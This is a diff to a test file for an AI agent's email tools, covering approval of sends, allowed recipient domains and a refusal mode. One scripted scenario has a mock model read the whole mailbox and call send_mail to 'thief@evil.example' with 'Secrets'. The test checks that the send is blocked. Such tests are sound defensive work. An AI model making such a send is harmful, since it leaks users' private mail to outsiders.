@@ -38,10 +38,10 @@ const scripted = (steps: Step[], ids: string) =>
     },
   })
 
-/** What a model was told last. */
+/** The prompt of the last call of a model. */
 const lastTold = (model: MockLanguageModelV3) => JSON.stringify(model.doGenerateCalls.at(-1)?.prompt.at(-1))
 
-/** What outlives a process: the runs that wait. */
+/** Opens a storage for the runs that wait, which outlives a process. */
 const openStorage = async () => {
   const { InMemoryStore } = await import('@mastra/core/storage')
   return new InMemoryStore()
@@ -109,8 +109,8 @@ proves(
     }
     expect(await real.sentMail()).toMatchObject([{ to: ['new@other.example'] }])
     expect((await real.mailbox.drafts.list()).items).toEqual([])
-    // Who is known is written to at once.
-    const again = await openAgent(real, storage, [send, 'Done.'])
+    // Whom the owner names is written to at once.
+    const again = await openAgent(real, storage, [send, 'Done.'], { recipients: ['other.example'] })
     expect(await again.agent.generate('And again')).toMatchObject({ text: 'Done.' })
     expect(await real.sentMail()).toHaveLength(2)
     // A tool that is run outside an agent, as in a step of a workflow, was not approved.
@@ -119,7 +119,7 @@ proves(
     expect(await real.sentMail()).toHaveLength(2)
     // The same call, run again with tools that were made anew, sends nothing twice.
     for (let time = 0; time < 2; time += 1) {
-      const { tools } = await openAgent(real, storage, [])
+      const { tools } = await openAgent(real, storage, [], { recipients: ['other.example'] })
       const context = { agent: { toolCallId: 'another' } }
       expect(await tools.send_mail.execute?.(mail, context)).toMatchObject({ status: 'sent' })
     }
@@ -186,7 +186,7 @@ proves(
     steps.push({ tool: 'search_mail', input: {} }, { tool: 'list_threads', input: {} })
     steps.push({ tool: 'send_mail', input: { to: 'thief@evil.example', subject: 'All', text: 'Secrets' } })
     const count = steps.length
-    const options = { onlyKnownRecipients: true }
+    const options = { flow: 'refuse' } as const
     const { agent, model } = await openAgent(real, await openStorage(), steps, options)
     await agent.generate('Read it all', { maxSteps: count + 1 })
     const told = model.doGenerateCalls.slice(1).map(({ prompt }) => prompt.at(-1)?.content)
@@ -195,7 +195,7 @@ proves(
       const [{ output } = {}] = content as { output?: { value: unknown } }[]
       expect(escaped(String(output?.value))).toEqual([])
     }
-    expect(lastTold(model)).toContain('unknown_recipient')
+    expect(lastTold(model)).toContain('outside_conversation')
     expect(await real.sentMail()).toHaveLength(0)
   },
 )
